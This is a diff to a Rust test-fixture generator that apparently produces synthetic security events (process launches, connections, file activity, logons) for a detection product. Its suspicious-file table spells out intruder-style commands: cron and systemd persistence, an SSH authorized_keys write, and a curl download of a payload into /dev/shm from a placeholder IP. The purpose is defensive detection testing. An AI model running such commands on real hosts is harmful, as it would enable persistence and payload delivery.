@@ -181,26 +181,114 @@ pub fn connection(src: (&str, u16), dst: (&str, u16), inbound: bool, time: i64) 
     .expect("valid connection")
 }
 
-/// `n` events: three in four process launches (one in a hundred suspicious), the rest
-/// network connections, inbound and outbound.
+/// A File System Activity record (`activity_id` 1 create, 2 read, 3 update, 4 delete) by a
+/// process.
+pub fn file_activity(path: &str, activity_id: u64, actor: (&str, &str), time: i64) -> Event {
+    let name = path.rsplit('/').next().unwrap_or(path);
+    let (exe, cmd) = actor;
+    Event::from_value(json!({
+        "class_uid": 1001, "activity_id": activity_id, "category_uid": 1,
+        "type_uid": 100100 + activity_id, "time": time, "severity_id": 1,
+        "metadata": {"version": "1.8.0", "product": {"name": "Vigil", "vendor_name": "Vigil"}},
+        "device": device(),
+        "file": {"path": path, "name": name, "type_id": 1},
+        "actor": {"process": {"pid": 2000 + time % 5_000, "cmd_line": cmd,
+                              "file": {"path": exe, "name": exe.rsplit('/').next().unwrap_or(exe)},
+                              "user": {"name": "root"}}},
+    }))
+    .expect("valid file activity")
+}
+
+/// An Authentication logon record (`status_id` 1 success, 2 failure) by a service.
+pub fn logon(service: &str, user: &str, src: Option<&str>, success: bool, time: i64) -> Event {
+    let mut ev = json!({
+        "class_uid": 3002, "activity_id": 1, "category_uid": 3, "type_uid": 300201,
+        "time": time, "severity_id": 1,
+        "metadata": {"version": "1.8.0", "product": {"name": "Vigil", "vendor_name": "Vigil"}},
+        "device": device(),
+        "status_id": if success { 1 } else { 2 },
+        "status": if success { "Success" } else { "Failure" },
+        "service": {"name": service}, "user": {"name": user},
+        "is_remote": src.is_some(),
+    });
+    if let Some(ip) = src {
+        ev["src_endpoint"] = json!({"ip": ip, "port": 50_000 + time % 10_000});
+    }
+    Event::from_value(ev).expect("valid logon")
+}
+
+/// Files everyday work writes and reads (`{}`: a variable part), and the writer.
+const EVERYDAY_FILES: &[(&str, (&str, &str))] = &[
+    (
+        "/var/log/nginx/access.log",
+        ("/usr/sbin/nginx", "nginx: worker process"),
+    ),
+    (
+        "/var/lib/postgresql/15/main/base/{}",
+        ("/usr/lib/postgresql/15/bin/postgres", "postgres: writer"),
+    ),
+    ("/tmp/tmp.{}", ("/usr/bin/bash", "bash build.sh")),
+    (
+        "/home/alice/.cache/pip/{}",
+        ("/usr/bin/python3", "pip install -r requirements.txt"),
+    ),
+    (
+        "/srv/app/uploads/{}.png",
+        ("/usr/bin/node", "node /srv/app/server.js"),
+    ),
+    ("/etc/hosts", ("/usr/bin/cat", "cat /etc/hosts")),
+    (
+        "/var/cache/apt/archives/{}.deb",
+        ("/usr/bin/apt-get", "apt-get install -y {}"),
+    ),
+    (
+        "/run/containerd/io.containerd.runtime.v2.task/moby/{}/config.json",
+        ("/usr/bin/containerd", "containerd"),
+    ),
+];
+
+/// Files an intruder touches, about one file event in a hundred.
+const SUSPICIOUS_FILES: &[(&str, (&str, &str))] = &[
+    (
+        "/etc/cron.d/{}",
+        (
+            "/usr/bin/bash",
+            "bash -c echo * * * * * root sh > /etc/cron.d/{}",
+        ),
+    ),
+    (
+        "/etc/systemd/system/{}.service",
+        ("/usr/bin/cp", "cp x /etc/systemd/system/{}.service"),
+    ),
+    ("/root/.ssh/authorized_keys", ("/usr/bin/bash", "bash")),
+    (
+        "/dev/shm/{}",
+        ("/usr/bin/curl", "curl -o /dev/shm/{} http://203.0.113.9/x"),
+    ),
+];
+
+/// `n` events: half process launches, a quarter network connections (inbound and outbound),
+/// a fifth file activity, the rest logons; about one in a hundred of the launches and file
+/// events suspicious, one logon in five a failure.
 pub fn realistic_events(n: usize, seed: u64) -> Vec<Event> {
     let mut rng = Rng::new(seed);
     (0..n)
         .map(|i| {
             let time = 1_700_000_000_000 + i as i64 * 10;
-            if rng.chance(75) {
+            let var = |rng: &mut Rng| match rng.below(3) {
+                0 => rng.below(200).to_string(),
+                1 => rng.hex(8),
+                _ => format!("app-{}", rng.below(50)),
+            };
+            let kind = rng.below(100);
+            if kind < 50 {
                 let table = if rng.chance(1) { SUSPICIOUS } else { EVERYDAY };
                 let (image, cmd) = rng.pick(table);
-                let var = match rng.below(3) {
-                    0 => rng.below(200).to_string(),
-                    1 => rng.hex(8),
-                    _ => format!("app-{}", rng.below(50)),
-                };
-                let cmd = cmd.replace("{}", &var);
+                let cmd = cmd.replace("{}", &var(&mut rng));
                 let parent = *rng.pick(PARENTS);
                 let user = rng.pick(USERS);
                 launch(image, &cmd, parent, user, time)
-            } else {
+            } else if kind < 75 {
                 let peer = format!("198.51.100.{}", rng.below(250));
                 let port = 30_000 + rng.below(30_000) as u16;
                 if rng.chance(50) {
@@ -214,6 +302,29 @@ pub fn realistic_events(n: usize, seed: u64) -> Vec<Event> {
                     let svc = *rng.pick(&[443u16, 80, 53, 5432, 6379]);
                     connection(("10.0.0.5", port), (&peer, svc), false, time)
                 }
+            } else if kind < 95 {
+                let table = if rng.chance(1) {
+                    SUSPICIOUS_FILES
+                } else {
+                    EVERYDAY_FILES
+                };
+                let (path, (exe, cmd)) = rng.pick(table);
+                let v = var(&mut rng);
+                let activity = 1 + rng.below(4) as u64;
+                file_activity(
+                    &path.replace("{}", &v),
+                    activity,
+                    (exe, &cmd.replace("{}", &v)),
+                    time,
+                )
+            } else {
+                let (service, src) = match rng.below(3) {
+                    0 => ("sudo", None),
+                    1 => ("su", None),
+                    _ => ("sshd", Some(format!("198.51.100.{}", rng.below(250)))),
+                };
+                let user = rng.pick(USERS);
+                logon(service, user, src.as_deref(), !rng.chance(20), time)
             }
         })
         .collect()
